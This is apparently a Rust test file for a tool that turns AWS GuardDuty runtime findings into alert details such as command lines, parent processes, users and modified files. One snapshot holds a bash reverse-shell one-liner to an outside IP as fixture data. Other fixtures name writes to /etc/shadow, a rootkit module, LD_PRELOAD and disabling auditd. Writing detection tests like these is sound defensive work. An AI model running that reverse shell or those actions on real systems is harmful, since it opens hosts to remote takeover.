//! Tests runtime findings: command lines, parents, users, files.

use super::*;

const REVERSE_SHELL: &str =
    include_str!("../../../../../../tests/fixtures/playbooks/guardduty-runtime-reverse-shell.json");

fn with_context(context: Value) -> Alert {
    let process = json!({"name": "sh", "executablePath": "/bin/sh", "user": "root", "parentUuid": "u-2",
        "lineage": [{"name": "systemd", "uuid": "u-1"}, {"name": "nginx", "uuid": "u-2"}]});
    let service = json!({"action": {}, "runtimeDetails": {"process": process, "context": context}});
    let native = finding(
        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        json!({}),
        service,
    );
    one_in_both(&native, json!([]))
}

#[test]
fn a_command_line_is_told_with_its_parent_and_user() {
    let alert = one_of(&value(REVERSE_SHELL));
    insta::assert_snapshot!(details(&alert), @"
    vpc: vpc-0a1 (arn:aws:eks:eu-west-1:444455556666:cluster/shop-prod)
    command_line: bash -i >& /dev/tcp/198.51.100.199/4444 0>&1 (bash)
    process_user: www-data (bash)
    parent_process: php-fpm (bash)
    ");
}

#[test]
fn the_parent_is_the_ancestor_of_its_id() {
    let alert = with_context(json!({"commandLineExample": "sh -c id"}));
    assert_eq!(values(&alert, DetailKind::ParentProcess), ["nginx"]);
    assert_eq!(values(&alert, DetailKind::CommandLine), ["sh -c id"]);
    assert_eq!(values(&alert, DetailKind::ProcessUser), ["root"]);
}

#[test]
fn modified_files_count_as_written_and_deleted_ones_do_not() {
    let written = |operation: &str| {
        let context = json!({"fileOperation": operation, "filePath": "/etc/passwd", "relatedFilePaths": ["/etc/shadow"]});
        let alert = with_context(context);
        values(&alert, DetailKind::FileWritten).join("; ")
    };
    for operation in ["Write", "Rename", "Symlink"] {
        assert_eq!(
            written(operation),
            "/etc/passwd; /etc/shadow",
            "{operation}"
        );
    }
    assert_eq!(written("Delete"), "");
}

#[test]
fn tools_modules_and_preloads_are_told() {
    let alert = with_context(
        json!({"toolName": "nmap", "toolCategory": "Network Scanner", "moduleName": "rk",
        "moduleFilePath": "/lib/rk.ko", "moduleSha256": "ab".repeat(32), "ldPreloadValue": "/tmp/x.so",
        "serviceName": "auditd", "shellHistoryFilePath": "/root/.bash_history",
        "targetProcess": {"name": "sshd", "user": "root", "executablePath": "/usr/sbin/sshd"}}),
    );
    insta::assert_snapshot!(told(&alert), @"
    threat | RUNTIME sh | -
    related hash abababababababababababababababababababababababababababababababab
    related principal root
    related process nginx
    related process sh
    related process sshd
    related process systemd
    related file /bin/sh
    related file /lib/rk.ko
    related file /root/.bash_history
    related file /tmp/x.so
    related file /usr/sbin/sshd
    process_user: root (sh)
    process_user: root (sshd)
    parent_process: nginx (sh)
    file_written: /root/.bash_history
    trait: LD_PRELOAD: /tmp/x.so
    trait: kernel module loaded: rk
    trait: security service disabled: auditd
    trait: tool category: Network Scanner
    trait: tool: nmap
    ");
}
